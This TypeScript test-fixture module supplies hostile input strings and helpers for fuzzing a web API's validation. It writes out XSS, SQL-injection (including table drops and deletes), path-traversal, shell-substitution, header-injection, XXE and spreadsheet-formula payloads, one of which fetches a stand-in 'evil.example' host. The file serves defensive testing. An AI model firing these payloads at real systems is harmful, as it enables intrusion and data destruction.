/** Hostile texts; each is known to have broken some system. */
export const hostileTexts: readonly string[] = [
  '<script>alert(document.domain)</script>',
  '"><img src=x onerror=alert(1)>',
  "<svg/onload='fetch(`//evil.example`)'>",
  'javascript:alert(1)//',
  '&lt;script&gt;&#x3c;/script&#62;',
  '\u202eevil\u202c reversed',
  '\u2066isolated\u2069 \u200frtl mark',
  'שלום עליכם',
  'x'.repeat(10_000),
  'Putri '.repeat(2_000),
  '🏝️🧳 sunny 😀',
  '👩‍👩‍👧‍👦 family',
  'zero\u200bwidth\u200djoin\u2060er',
  `Z${'\u0336\u0353\u034d'.repeat(30)}algo`,
  "'; DROP TABLE booking; --",
  "' OR '1'='1",
  "Robert'); select pg_sleep(10);--",
  '1 UNION SELECT password_hash FROM app_user',
  "$$; delete from ledger_entry; $$ || E'\\x27'",
  "x' AND 1=CAST((SELECT version()) AS int)/*!50000*/ #",
  'a\u0000b',
  'a\u0007\u001b[31mred\u009b',
  'half \ud83d pair',
  '\udfff first',
  '../../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%00',
  `{{7*7}} ${'$'}{7*7} <%= 7*7 %> #{7*7}`,
  '%s%s%n%x%p',
  '$(id) `id` | id & id',
  '__proto__',
  'constructor',
  'toString',
  'name\r\nSet-Cookie: stolen=1\r\n\r\n<html>',
  'line\u2028separator\u2029paragraph',
  '{"orgId":"MERAPI","role":"ROLE_SUPER_ADMIN"}',
  '["$ne",null]',
  '9'.repeat(400),
  '1e309',
  'NaN',
  '-Infinity',
  '0x7fffffff',
  '١٢٣٤٥٦٧٨٩',
  'Рutri Lеstаri',
  'Ｐｕｔｒｉ',
  '\ufeffPutri',
  '\ue000private\u{f0000}',
  '\u0378unassigned\uffff',
  'null',
  'undefined',
  '=cmd|/C calc!A0',
  '*)(uid=*))(|(uid=*',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '\u00a0\u2003\u3000',
  'a\tb',
  '',
]

/** Marks JSON source that `jsonOf` writes without quotes, such as `1e309`, which `JSON.stringify` cannot write. */
export const bare = (json: string) => `@@${json}@@`

export function jsonOf(value: unknown): string {
  return JSON.stringify(value).replace(/"@@(.*?)@@"/g, '$1')
}

/** Values of a wrong type for any field: text, number, choice or list. */
export const wrongKinds: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  [null],
  { length: 1 },
  { toString: 'x' },
  0,
  -1,
  1.5,
  1e21,
  Number.MAX_SAFE_INTEGER + 1,
  bare('1e309'),
  bare('-1e309'),
  bare('-0'),
  bare('NaN'),
  '5',
  '',
]

/** The paths of all fields of a request, including those that hold lists and objects. */
export function pathsOf(value: unknown, path: readonly string[] = []): string[][] {
  const here = path.length > 0 ? [[...path]] : []
  if (typeof value !== 'object' || value === null) return here
  return [...here, ...Object.entries(value).flatMap(([key, held]) => pathsOf(held, [...path, key]))]
}

export function readAt(value: unknown, path: readonly string[]): unknown {
  return path.reduce((held, key) => Reflect.get(Object(held), key), value)
}

/** A copy with another value at one path. */
export function withAt(value: unknown, path: readonly string[], other: unknown): unknown {
  const [key, ...rest] = path
  if (key === undefined) return other
  const changed = withAt(Reflect.get(Object(value), key), rest, other)
  if (Array.isArray(value)) return value.with(Number(key), changed)
  return { ...Object(value), [key]: changed }
}

/** Encodes a text for a URL; a lone surrogate becomes the invalid UTF-8 bytes that a careless program writes. */
export function inAddress(text: string): string {
  return text
    .split(/([\ud800-\udfff])/u)
    .map((part) => (/^[\ud800-\udfff]$/u.test(part) ? '%ED%A0%BD' : encodeURIComponent(part)))
    .join('')
}
